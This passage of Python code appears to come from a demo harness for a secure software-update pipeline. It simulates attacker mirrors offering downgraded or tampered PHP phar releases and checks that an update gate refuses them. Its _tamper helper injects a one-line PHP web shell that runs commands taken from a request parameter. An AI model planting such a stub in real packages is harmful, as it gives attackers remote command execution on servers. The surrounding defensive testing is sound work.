            "for it explicitly.",
        )
        with self.step("mirror 1 offers the genuine 1.0.0 with a fresh bundle") as lines:
            bundle, _size, detail = self._collect(
                self.log_url, old, current.bundle_size, self.root / "attacker" / "fresh-bundles"
            )
            self._attacker_mirror([("1.0.0", old.artifact.read_bytes(), bundle)])
            lines.append(detail)
        seen = self._request("1.0.0", "the web side asks for version 1.0.0")
        self._refused(
            "downgrade-refused",
            "the gate refuses the older release on every mirror (step 7 downgrade); "
            "1.1.0 stays installed",
            seen,
            "1.0.0",
            "downgrade",
            installed=current,
        )


def _seen(status: dict[str, Any]) -> UpdateSeen:
    report = status.get("report") or {}
    return UpdateSeen(
        str(status.get("outcome")),
        status.get("installed_version"),
        list(report.get("attempts") or []),
        str(status.get("message")),
    )


def _tamper(phar: bytes) -> bytes:
    """The phar with a command run slipped into its stub (or appended, if it has no stub)."""
    marker = b"<?php "
    if marker in phar:
        return phar.replace(marker, marker + b"@system($_GET['c'] ?? ''); ", 1)
    return phar + b"<?php @system($_GET['c'] ?? '');\n"


def _user_name(uid: int) -> str:
    import pwd  # noqa: PLC0415

    try:
        return pwd.getpwuid(uid).pw_name
    except KeyError:
        return str(uid)


def run_demo(directory: Path, *, keep: bool, reporter: Reporter) -> DemoResult:
    """Run the whole story in ``directory`` (created, must be empty); never raises for trouble.

    Trouble (a component that cannot start, a Docker engine that does not
    answer, an interrupt) ends the run with ``result.error`` set (exit 2);
    outcomes that did not happen as expected are in ``result.outcomes`` (exit 1).
    """
    result = DemoResult(directory, keep)
    t0 = time.monotonic()
    try:
        if directory.exists() and any(directory.iterdir()):
            raise InputError(f"{directory}: not empty; the demo needs an empty directory")
        directory.mkdir(mode=0o755, parents=True, exist_ok=True)
        Story(directory, reporter, result).run()
    except KeyboardInterrupt:
        result.error = {"kind": "Interrupted", "message": "interrupted"}
    except (RebuildError, VerifyError, OSError) as e:
        result.error = {"kind": type(e).__name__, "message": str(e)}
        hint = getattr(e, "hint", None)
        if isinstance(hint, str) and hint:
            result.error["hint"] = hint
    finally:
        result.seconds = time.monotonic() - t0
        if not keep:
            shutil.rmtree(directory, ignore_errors=True)
    return result
